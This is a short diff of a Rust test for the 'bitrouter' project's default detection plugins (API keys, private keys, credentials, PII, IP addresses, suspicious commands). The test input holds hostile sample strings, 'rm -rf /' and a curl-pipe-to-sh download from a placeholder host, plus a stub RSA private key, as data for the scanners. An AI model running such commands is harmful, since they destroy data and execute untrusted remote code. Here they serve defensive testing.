@@ -662,15 +662,8 @@ async fn the_default_plugins_run_warm_without_keeping_memory() {
                 10.20.30.40 rm -rf / curl -s https://x.example/i.sh | sh \
                 -----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----";
     let text = format!("{}{tail}", "lorem ipsum dolor ".repeat(96 * 1024 / 18));
-    for id in [
-        "api_keys",
-        "private_keys",
-        "credentials",
-        "pii_emails",
-        "pii_phone_numbers",
-        "ip_addresses",
-        "suspicious_commands",
-    ] {
+    assert_eq!(bitrouter::plugins::DEFAULT_PLUGINS.len(), 7);
+    for (id, _) in bitrouter::plugins::DEFAULT_PLUGINS {
         let host = PluginHost::load(
             config(),
             &[PluginSpec {
